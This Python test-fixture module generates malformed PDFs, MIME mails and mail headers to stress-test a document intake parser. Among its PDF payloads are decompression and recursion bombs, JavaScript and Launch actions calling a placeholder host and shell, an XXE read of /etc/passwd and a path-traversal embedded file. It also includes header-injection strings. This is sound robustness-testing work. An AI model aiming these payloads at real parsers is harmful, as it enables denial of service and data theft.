"""Mails and papers made to hurt their reader: PDF bombs, MIME bombs, header attacks. Made here, so that none is kept in the tree.

`PDFS`, `MIMES` and `HEADERS` name each bomb's maker; a maker gives its bytes. Nothing here does harm by lying about.
"""

from __future__ import annotations

import base64
import random
import zlib
from collections.abc import Callable
from types import MappingProxyType

MIB = 1024 * 1024
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<<%s>>%s>>"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
CATALOG = b"<</Type/Catalog/Pages 2 0 R%s>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
HELLO = b"BT /F 11 Tf 72 700 Td (hello) Tj ET"
WITH_FONT = b"/Font<</F 5 0 R>>"


# ---------------------------------------------------------------- building


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A file with a right cross-reference table; the first object is the catalog."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(
        out + b"trailer<</Root 1 0 R/Size %d%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)
    )


def page(
    content: bytes, *more: bytes, resources: bytes = WITH_FONT, entries: bytes = b"", catalog: bytes = b""
) -> bytes:
    """One page with this content; `more`: objects from 5 on (the first one a font, unless `resources` say otherwise)."""
    return pdf(CATALOG % catalog, PAGES, PAGE % (resources, entries), content, *(more or (FONT,)))


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(data), entries, data)


def packed(data: bytes, entries: bytes = b"") -> bytes:
    return stream(zlib.compress(data), b"/Filter/FlateDecode" + entries)


def deflated(piece: bytes, times: int) -> bytes:
    """`piece` so many times over as one zlib stream, made without ever holding it unpacked."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = compressor.compress(piece) + compressor.flush(zlib.Z_FULL_FLUSH)
    total = 1
    for _ in range(times):
        total = zlib.adler32(piece, total)
    return b"\x78\xda" + first * times + b"\x03\x00" + total.to_bytes(4, "big")


def form(content: bytes, resources: bytes) -> bytes:
    return stream(content, b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<<%s>>" % resources)


# ---------------------------------------------------------------- PDFs: what draws without end


def form_self_recursion() -> bytes:
    names = b"/XObject<</X 5 0 R>>"
    return page(stream(b"/X Do"), form(b"/X Do /X Do", names), resources=names)


def form_mutual_recursion() -> bytes:
    names = b"/XObject<</X 5 0 R/Y 6 0 R>>"
    return page(stream(b"/X Do"), form(b"/Y Do /Y Do", names), form(b"/X Do /X Do", names), resources=names)


def form_billion_laughs() -> bytes:
    levels = [form(b"/X Do " * 10, b"/XObject<</X %d 0 R>>" % number) for number in range(7, 16)]
    last = form(b"BT /F 9 Tf (lol) Tj ET", WITH_FONT)
    return page(stream(b"/X Do"), FONT, *levels, last, resources=b"/XObject<</X 6 0 R>>")


def pattern_self_recursion() -> bytes:
    names = b"/Pattern<</P 5 0 R>>/ColorSpace<</C[/Pattern]>>"
    fill = b"/C cs /P scn 0 0 595 842 re f"
    tile = stream(
        fill,
        b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep .001/YStep .001/Resources<<%s>>"
        % names,
    )
    return page(stream(fill), tile, resources=names)


def type3_font_self_recursion() -> bytes:
    names = b"/Font<</F 5 0 R>>"
    font = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/FirstChar 65/LastChar 65/Widths[1]"
        b"/Encoding<</Differences[65/A]>>/CharProcs<</A 6 0 R>>/Resources<<%s>>>>" % names
    )
    return page(
        stream(b"BT /F 9 Tf (AAAA) Tj ET"), font, stream(b"1 0 d0 BT /F 9 Tf (AAAAAAAA) Tj ET"), resources=names
    )


def annotation_self_recursion() -> bytes:
    names = b"/XObject<</X 5 0 R>>"
    annotations = b"/Annots[%s]" % (b"<</Type/Annot/Subtype/Stamp/Rect[0 0 99 99]/AP<</N 5 0 R>>>>" * 500)
    return page(stream(b""), form(b"/X Do /X Do", names), resources=names, entries=annotations)


# ---------------------------------------------------------------- PDFs: what unpacks without end


def flate_1_gib() -> bytes:
    return page(stream(deflated(b" " * MIB, 1024), b"/Filter/FlateDecode"))


def flate_twice_1_gib() -> bytes:
    twice = zlib.compress(deflated(b" " * MIB, 1024), 9)
    return page(stream(twice, b"/Filter[/FlateDecode/FlateDecode]"))


def flate_100_mb_of_text_operators() -> bytes:
    return page(stream(deflated(b"BT /F 9 Tf (AAAAAAAA) Tj ET\n" * 36_000, 100), b"/Filter/FlateDecode"))


def flate_1_gib_of_to_unicode() -> bytes:
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>"
    return page(stream(HELLO), font, stream(deflated(b"<41> <0042>\n" * 87_381, 1024), b"/Filter/FlateDecode"))


def filter_chain_of_500() -> bytes:
    data = b"BT ET"
    for _ in range(500):
        data = zlib.compress(data, 0)
    return page(stream(data, b"/Filter[%s]" % (b"/FlateDecode" * 500)))


def predictor_of_two_billion_columns() -> bytes:
    return page(packed(bytes(MIB), b"/DecodeParms<</Predictor 12/Columns 2147483647/Colors 32/BitsPerComponent 16>>"))


def run_length_and_hex_tower() -> bytes:
    data = zlib.compress((b"\x81 " * MIB + b"\x80").hex().encode() + b">")
    return page(stream(data, b"/Filter[/FlateDecode/ASCIIHexDecode/RunLengthDecode]"))


# ---------------------------------------------------------------- PDFs: trees and tables


def page_tree_of_20000_levels() -> bytes:
    levels = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (number + 1) for number in range(2, 20_002)]
    return pdf(CATALOG % b"", *levels, b"<</Type/Page/Parent 20001 0 R/MediaBox[0 0 9 9]>>")


def page_tree_loop() -> bytes:
    return pdf(CATALOG % b"", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 1000000/Parent 2 0 R>>")


def two_billion_pages_promised() -> bytes:
    return pdf(CATALOG % b"", b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>", PAGE % (b"", b""), stream(b""))


def two_hundred_thousand_pages() -> bytes:
    kids = b"3 0 R " * 200_000
    return pdf(
        CATALOG % b"", b"<</Type/Pages/Kids[%s]/Count 200000>>" % kids, PAGE % (WITH_FONT, b""), stream(HELLO), FONT
    )


def object_stream_of_a_million() -> bytes:
    numbers = b"".join(b"%d 0 " % number for number in range(10, 200_010))
    bomb = packed(numbers + b"[" * 1000, b"/Type/ObjStm/N 1000000/First %d" % len(numbers))
    return page(stream(HELLO), FONT, bomb)


def object_stream_that_extends_itself() -> bytes:
    content = b"4 0 <</Length 4 0 R>>"
    rows = b"".join(
        bytes((kind, place >> 8, place & 255, index)) for kind, place, index in ((0, 0, 0), (2, 2, 0), (2, 2, 0))
    )
    return (
        b"%PDF-1.7\n2 0 obj"
        + stream(content, b"/Type/ObjStm/N 1/First 4/Extends 2 0 R")
        + b"endobj\n9 0 obj"
        + stream(rows * 100, b"/Type/XRef/W[1 2 1]/Size 300/Root 4 0 R/Prev 9")
        + b"endobj\nstartxref\n%d\n%%%%EOF" % (len(content) + 90)
    )


def cross_references_in_a_circle() -> bytes:
    whole = pdf(CATALOG % b"", PAGES, PAGE % (WITH_FONT, b""), stream(HELLO), FONT)
    start = whole.rindex(b"xref\n0 ")
    return whole.replace(b"/Size 6", b"/Size 6/Prev %d/XRefStm %d" % (start, start))


def cross_references_of_two_billion_rows() -> bytes:
    rows = stream(bytes(70_000), b"/Type/XRef/W[1 4 2]/Size 2147483647/Index[0 2147483647]/Root 1 0 R")
    return b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj" + rows + b"endobj\nstartxref\n53\n%%EOF"


def cross_references_chained_10000_times() -> bytes:
    out = bytearray(pdf(CATALOG % b"", PAGES, PAGE % (WITH_FONT, b""), stream(HELLO), FONT))
    last = out.rindex(b"xref\n0 ")
    for _ in range(10_000):
        place = len(out)
        out += b"xref\n0 1\n0000000000 65535 f \ntrailer<</Root 1 0 R/Size 6/Prev %d>>\n" % last
        last = place
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % last)


def outlines_in_a_circle() -> bytes:
    item = b"<</Title(x)/Parent 6 0 R/Next 7 0 R/Prev 7 0 R/First 7 0 R/Last 7 0 R>>"
    outlines = b"<</Type/Outlines/First 7 0 R/Last 7 0 R/Count 1000000>>"
    return page(stream(HELLO), FONT, outlines, item, catalog=b"/Outlines 6 0 R")


def dictionaries_nested_300000_deep() -> bytes:
    return page(stream(HELLO), FONT, b"<</A" * 300_000 + b" 1" + b">>" * 300_000)


# ---------------------------------------------------------------- PDFs: pages that cost time or memory


def media_box_of_a_planet() -> bytes:
    whole = page(stream(b"BT /F 1000000 Tf 72 700 Td (hello) Tj ET"))
    return whole.replace(b"[0 0 595 842]", b"[-1e30 -1e30 1e30 1e30]")


def media_box_inside_out() -> bytes:
    return page(stream(HELLO)).replace(b"[0 0 595 842]", b"[99999999999999999999 1 0 -0]")


def a_thousand_pictures_of_8000_by_8000() -> bytes:
    picture = packed(
        bytes(64_000), b"/Type/XObject/Subtype/Image/Width 8000/Height 8000/ColorSpace/DeviceRGB/BitsPerComponent 8"
    )
    names = b"/XObject<<%s>>" % b"".join(b"/I%d %d 0 R" % (number, number + 5) for number in range(1000))
    content = b"".join(b"q 595 0 0 842 0 0 cm /I%d Do Q\n" % number for number in range(1000))
    return page(stream(content), *[picture] * 1000, resources=names)


def inline_picture_without_end() -> bytes:
    return page(stream(b"BI /W 100000 /H 100000 /BPC 8 /CS /RGB ID " + bytes(2 * MIB)))


def a_million_text_operators() -> bytes:
    return page(packed(b"BT /F 9 Tf 9 TL " + b"(A)' " * 1_000_000 + b"ET"))


def a_string_of_5_mb() -> bytes:
    return page(packed(b"BT /F 9 Tf (" + b"A" * 5_000_000 + b") Tj ET"))


def just_below_the_limit_on_twenty_pages() -> bytes:
    """Text in tiny cells all over, each of its own size and place: the most that the geometry may be given."""
    dice = random.Random(38)
    letters = b"".join(
        b"%.2f 0 0 %.2f %.2f %.2f Tm (A) Tj "
        % (4 + dice.random(), 4 + dice.random(), dice.random() * 590, dice.random() * 830)
        for _ in range(9_900)
    )
    kids = b"3 0 R " * 20
    return pdf(
        CATALOG % b"",
        b"<</Type/Pages/Kids[%s]/Count 20>>" % kids,
        PAGE % (WITH_FONT, b""),
        packed(b"BT /F 1 Tf " + letters + b"ET"),
        FONT,
    )


def labels_all_over() -> bytes:
    """The words that the reader of notices looks for, thousands of times, where tables would have them."""
    font = (
        b"<</Type/Font/Subtype/Type0/BaseFont/MS-Mincho/Encoding/90ms-RKSJ-H/DescendantFonts[<</Type/Font"
        b"/Subtype/CIDFontType2/BaseFont/MS-Mincho/CIDSystemInfo<</Registry(Adobe)/Ordering(Japan1)/Supplement 2>>>>]>>"
    )
    words = [
        word.encode("cp932").hex().encode() for word in ("認証キー", "保証契約番号", "工事名", "受注者名", "保証区分")
    ]
    places = [(column, row) for row in range(100) for column in range(40)]
    content = b"".join(
        b"1 0 0 1 %d %d Tm <%s> Tj " % (column * 40, row * 8, words[(column + row) % 5]) for column, row in places
    )
    kids = b"3 0 R " * 20
    tall = (PAGE % (WITH_FONT, b"")).replace(b"595 842", b"1700 900")
    return pdf(
        CATALOG % b"",
        b"<</Type/Pages/Kids[%s]/Count 20>>" % kids,
        tall,
        packed(b"BT /F 7 Tf " + content + b"ET"),
        font,
    )


def half_a_million_strokes() -> bytes:
    return page(packed(b"0 0 m 9 9 l S " * 500_000 + HELLO))


def a_million_saved_states() -> bytes:
    return page(packed(b"q " * 1_000_000 + b"[" * 500_000 + HELLO))


# ---------------------------------------------------------------- PDFs: fonts


def twenty_thousand_fonts() -> bytes:
    names = b"/Font<<%s>>" % b"".join(b"/F%d %d 0 R" % (number, number + 5) for number in range(20_000))
    content = b"".join(b"BT /F%d 9 Tf (A) Tj ET\n" % number for number in range(20_000))
    return page(packed(content), *[FONT] * 20_000, resources=names)


def to_unicode_of_600_million_letters() -> bytes:
    ranges = b"100 beginbfrange\n" + b"<0000> <ffff> <0041>\n" * 100 + b"endbfrange\n"
    font = (
        b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/ToUnicode 6 0 R/DescendantFonts[<</Type/Font"
        b"/Subtype/CIDFontType2/BaseFont/A/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>>>]>>"
    )
    return page(stream(b"BT /F 9 Tf <00410042> Tj ET"), font, packed(ranges * 100))


def character_map_that_uses_itself() -> bytes:
    font = b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding 6 0 R/ToUnicode 6 0 R/DescendantFonts[5 0 R]>>"
    return page(
        stream(b"BT /F 9 Tf <0041> Tj ET"),
        font,
        packed(b"/A usecmap\n" * 50_000, b"/Type/CMap/CMapName/A/UseCMap 6 0 R"),
    )


# ---------------------------------------------------------------- PDFs: what acts, what hides, what is broken


def scripts_and_launches() -> bytes:
    acts = (
        b"<</S/JavaScript/JS(app.launchURL('http://203.0.113.1/x');this.submitForm('http://203.0.113.1/y');)/Next["
        b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>><</S/URI/URI(http://203.0.113.1/z)>>"
        b"<</S/GoToR/F(\\\\\\\\203.0.113.1\\\\share)>><</S/ImportData/F(http://203.0.113.1/d)>>"
        b"<</S/SubmitForm/F(http://203.0.113.1/f)>>]>>"
    )
    return page(
        stream(HELLO), FONT, acts, entries=b"/AA<</O 6 0 R/C 6 0 R>>", catalog=b"/OpenAction 6 0 R/AA<</WC 6 0 R>>"
    )


def embedded_files_and_streams_elsewhere() -> bytes:
    outside = b"<</Length 0/F<</Type/Filespec/FS/URL/F(http://203.0.113.1/content)>>>>stream\n\nendstream"
    file = b"<</Type/Filespec/F(../../../../etc/cron.d/x)/EF<</F 8 0 R>>>>"
    names = b"/Names<</EmbeddedFiles<</Names[%s]>>>>" % (b"(x) 7 0 R " * 10_000)
    return page(outside, FONT, b"null", file, packed(b"MZ" + bytes(MIB)), catalog=names)


def form_data_with_entities() -> bytes:
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    xml = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "lol">' + laughs + b'<!ENTITY e SYSTEM "file:///etc/passwd">'
        b'<!ENTITY r SYSTEM "http://203.0.113.1/">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&l9;&e;&r;</xdp:xdp>'
    )
    return page(stream(HELLO), FONT, packed(xml), catalog=b"/AcroForm<</XFA 6 0 R/Fields[]>>/NeedsRendering true")


def encrypted_by_an_unknown_handler() -> bytes:
    return pdf(
        *(CATALOG % b"", PAGES, PAGE % (WITH_FONT, b""), stream(HELLO), FONT, b"<</Filter/Nobody.Knows/V 99/R 99>>"),
        trailer=b"/Encrypt 6 0 R/ID[<00><00>]",
    )


def encrypted_with_lies() -> bytes:
    lies = b"<</Filter/Standard/V 5/R 6/Length 2147483647/O<00>/U<00>/OE<00>/UE<00>/Perms<00>/P -1/CF<</StdCF<</CFM/AESV3/Length 99999>>>>/StmF/StdCF/StrF/StdCF>>"
    return pdf(
        *(CATALOG % b"", PAGES, PAGE % (WITH_FONT, b""), stream(HELLO), FONT, lies),
        trailer=b"/Encrypt 6 0 R/ID[<00><00>]",
    )


def five_mb_of_junk() -> bytes:
    return b"%PDF-1.7\n" + random.Random(53).randbytes(5 * MIB)


def cut_off() -> bytes:
    whole = a_thousand_pictures_of_8000_by_8000()
    return whole[: len(whole) // 2]


_PDF_MAKERS: tuple[Callable[[], bytes], ...] = (
    form_self_recursion,
    form_mutual_recursion,
    form_billion_laughs,
    pattern_self_recursion,
    type3_font_self_recursion,
    annotation_self_recursion,
    flate_1_gib,
    flate_twice_1_gib,
    flate_100_mb_of_text_operators,
    flate_1_gib_of_to_unicode,
    filter_chain_of_500,
    predictor_of_two_billion_columns,
    run_length_and_hex_tower,
    page_tree_of_20000_levels,
    page_tree_loop,
    two_billion_pages_promised,
    two_hundred_thousand_pages,
    object_stream_of_a_million,
    object_stream_that_extends_itself,
    cross_references_in_a_circle,
    cross_references_of_two_billion_rows,
    cross_references_chained_10000_times,
    outlines_in_a_circle,
    dictionaries_nested_300000_deep,
    media_box_of_a_planet,
    media_box_inside_out,
    a_thousand_pictures_of_8000_by_8000,
    inline_picture_without_end,
    a_million_text_operators,
    a_string_of_5_mb,
    just_below_the_limit_on_twenty_pages,
    labels_all_over,
    half_a_million_strokes,
    a_million_saved_states,
    twenty_thousand_fonts,
    to_unicode_of_600_million_letters,
    character_map_that_uses_itself,
    scripts_and_launches,
    embedded_files_and_streams_elsewhere,
    form_data_with_entities,
    encrypted_by_an_unknown_handler,
    encrypted_with_lies,
    five_mb_of_junk,
    cut_off,
)
PDFS = MappingProxyType({maker.__name__: maker for maker in _PDF_MAKERS})


# ---------------------------------------------------------------- mails

# Neither says what is attached: so nobody is asked to send it again in another form.
_HEAD = b"From: Suzuki <suzuki@kensetsu.example.jp>\r\nTo: hosho@city.example.jp\r\nSubject: documents\r\nMIME-Version: 1.0\r\n"
_TEXT = b"Content-Type: text/plain; charset=utf-8\r\n\r\nDear Sir or Madam,\r\n"


def mail(*parts: bytes, sender: str = "suzuki@kensetsu.example.jp", mark: str = "") -> bytes:
    """A mail of these parts, each with its own headers. `mark`: makes it another mail than its twins."""
    head = _HEAD.replace(b"suzuki@kensetsu.example.jp", sender.encode())
    head += b"Message-ID: <%s@kensetsu.example.jp>\r\n" % mark.encode() if mark else b""
    body = b"".join(b"--=b\r\n" + part + b"\r\n" for part in parts)
    return head + b'Content-Type: multipart/mixed; boundary="=b"\r\n\r\n' + body + b"--=b--\r\n"


def attached(content: bytes, name: str = "a.pdf", media_type: str = "application/pdf") -> bytes:
    """A part with an attachment in base64."""
    head = f'Content-Type: {media_type}\r\nContent-Disposition: attachment; filename="{name}"\r\nContent-Transfer-Encoding: base64'
    return head.encode() + b"\r\n\r\n" + base64.encodebytes(content).replace(b"\n", b"\r\n")


def mail_with(*contents: bytes, sender: str = "suzuki@kensetsu.example.jp", mark: str = "") -> bytes:
    """A mail with these PDFs."""
    return mail(
        _TEXT, *(attached(content, f"{n}.pdf") for n, content in enumerate(contents, 1)), sender=sender, mark=mark
    )


def five_thousand_levels() -> bytes:
    opening = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(5000))
    return _HEAD + opening + _TEXT


def hundred_thousand_parts() -> bytes:
    return mail(*[b"Content-Type: application/octet-stream\r\n\r\nx"] * 100_000)


def attached_mails_fifty_deep() -> bytes:
    inner = _HEAD + _TEXT
    for number in range(50):
        head = _HEAD + b"Content-Type: multipart/mixed; boundary=m%d\r\n\r\n--m%d\r\n" % (number, number)
        inner = head + b"Content-Type: message/rfc822\r\n\r\n" + inner + b"\r\n--m%d--\r\n" % number
    return inner


def base64_of_33_mb() -> bytes:
    return mail(_TEXT, attached(bytes(24 * MIB), "a.bin", "application/octet-stream"))


def the_same_pdf_500_times() -> bytes:
    part = attached(page(stream(HELLO)))
    return mail(_TEXT, *[part] * 500)


def ten_bombs_in_one_mail() -> bytes:
    return mail_with(*[form_self_recursion()] * 10)


def zip_of_gigabytes() -> bytes:
    return mail(_TEXT, attached(b"PK\x03\x04" + deflated(bytes(MIB), 1000), "a.zip", "application/zip"))


def bare_line_ends_of_25_mb() -> bytes:
    return _HEAD + _TEXT + b"\r\n" * (25 * MIB // 2)


def a_line_of_25_mb() -> bytes:
    return _HEAD + _TEXT + b"x" * 25 * MIB


def a_million_lookalike_boundaries() -> bytes:
    return mail(_TEXT + b"\r\n--=bx" * 1_000_000)


def html_of_a_million_tags() -> bytes:
    return mail(b"Content-Type: text/html\r\n\r\n" + b"<div><table><tr><td>&#12354;" * 250_000)


def html_that_is_never_closed() -> bytes:
    return mail(b"Content-Type: text/html\r\n\r\n" + b"<!--<script><svg a='" * 500_000)


def escapes_without_letters() -> bytes:
    return mail(b"Content-Type: text/plain; charset=iso-2022-jp\r\n\r\n" + b"\x1b$B\x1b(B" * 1_000_000)


def labels_typed_in_the_body() -> bytes:
    lines = "認証キー：\r\n保証契約番号：\r\n工事名：あ\r\n" * 20_000
    return (
        _HEAD + b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" + lines.encode()
    )


def quotes_and_blanks_in_the_body() -> bytes:
    lines = (
        "> " * 50_000 + "\n" + "　" * 100_000 + "認証キー" + " " * 100_000 + "\n" + "On " + "x" * 100_000 + " wrote:"
    )
    return _HEAD + b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + lines.encode()


_MIME_MAKERS: tuple[Callable[[], bytes], ...] = (
    five_thousand_levels,
    hundred_thousand_parts,
    attached_mails_fifty_deep,
    base64_of_33_mb,
    the_same_pdf_500_times,
    ten_bombs_in_one_mail,
    zip_of_gigabytes,
    bare_line_ends_of_25_mb,
    a_line_of_25_mb,
    a_million_lookalike_boundaries,
    html_of_a_million_tags,
    html_that_is_never_closed,
    escapes_without_letters,
    labels_typed_in_the_body,
    quotes_and_blanks_in_the_body,
)
MIMES = MappingProxyType({maker.__name__: maker for maker in _MIME_MAKERS})


# ---------------------------------------------------------------- header attacks (34)


def _with(*fields: bytes) -> bytes:
    """A mail with these header fields; those of `_HEAD` that are named anew are left out."""
    named = {field.partition(b":")[0].lower() for field in fields}
    head = [line for line in _HEAD.splitlines() if line.partition(b":")[0].lower() not in named]
    return b"\r\n".join((*head, *fields, b"", b"Dear Sir or Madam,")) + b"\r\n"


_WORD = b"=?utf-8?B?44GC?= "
HEADERS = MappingProxyType(
    {
        "8 kB of quotes in From": _with(b"From: " + b'"' * 8_000),
        "32 kB of quotes in From": _with(b"From: " + b'"' * 32_000),
        "100 kB of quotes in From": _with(b"From: " + b'"' * 100_000),
        "escaped quotes in From": _with(b'From: "' + b'\\"' * 50_000 + b'" <a@example.jp>'),
        "1 MB of blanks in Subject": _with(b"Subject: " + b"a " * 500_000),
        "800 kB of encoded words in Subject": _with(b"Subject: " + _WORD * 40_000),
        "half encoded words in Subject": _with(b"Subject: " + b"=?utf-8?q?" * 20_000),
        "encoded words of 1,000 charsets": _with(
            b"Subject: " + b" ".join(b"=?cp%d?B?44GC?=" % number for number in range(1000))
        ),
        "line ends inside encoded words": _with(b"From: =?utf-8?q?a=0D=0ABcc:_b@example.com?= <a@example.jp>"),
        "20,000 parameters in Content-Type": _with(
            b"Content-Type: text/plain" + b"".join(b"; p%d=x" % n for n in range(20_000))
        ),
        "24 kB of semicolons in Content-Type": _with(b"Content-Type: text/html" + b" ;" * 12_000),
        "10,000 continuations of a file name": _with(
            b"Content-Disposition: attachment" + b"".join(b"; filename*%d*=%%41" % n for n in range(10_000))
        ),
        "100 kB of boundary": _with(b"Content-Type: multipart/mixed; boundary=" + b"b" * 100_000),
        "a charset of 100 kB": _with(b"Content-Type: text/plain; charset=" + b"x" * 100_000),
        "a charset that unpacks": _with(b"Content-Type: text/plain; charset=zlib"),
        "a charset that is a path": _with(b"Content-Type: text/plain; charset=../../etc/passwd"),
        "20,000 addresses in To": _with(b"To: " + b", ".join(b"a%d@example.jp" % n for n in range(20_000))),
        "2,000 brackets in To": _with(b"To: " + b"(" * 2_000),
        "100,000 brackets in From": _with(b"From: " + b"(" * 100_000),
        "100,000 angle brackets in From": _with(b"From: " + b"<" * 100_000 + b"a@example.jp"),
        "groups in groups in Cc": _with(b"Cc: " + b"g:" * 30_000),
        "100 kB of comments in Reply-To": _with(b"Reply-To: " + b"(a)" * 33_000 + b" a@example.jp"),
        "20,000 ids in References": _with(b"References: " + b" ".join(b"<%d@example.jp>" % n for n in range(20_000))),
        "an id without an end": _with(b"Message-ID: <" + b"a" * 200_000),
        "10,000 Received fields": _with(*[b"Received: from a by b; Mon, 1 Jun 2026 00:00:00 +0900"] * 10_000),
        "1,000 From fields": _with(*[b"From: a@example.jp"] * 1_000),
        "a million header lines": _with(b"\r\n".join([b"X-A: b"] * 1_000_000)),
        "200,000 folded lines": _with(b"Subject: a" + b"\r\n a" * 200_000),
        "1 MB without a colon": b"x" * 1_000_000 + b"\r\n" + _with(),
        "NUL and controls everywhere": _with(b"From: \0a\x01@\x7fexample.jp", b"Subject: \0\x08\x1b[31m\x85"),
        "100 kB of Authentication-Results": _with(b"Authentication-Results: mx" + b"; spf=pass (a)" * 7_000),
        "100 kB of List-Id": _with(b"List-Id: " + b"<" * 100_000, b"Auto-Submitted: " + b"(" * 50_000),
        "a date in the year 9999 in an impossible zone": _with(b"Date: Fri, 31 Dec 9999 23:59:60 -9999"),
        "a date of 100 kB": _with(b"Date: " + b"Mon, 1 " * 15_000),
    }
)
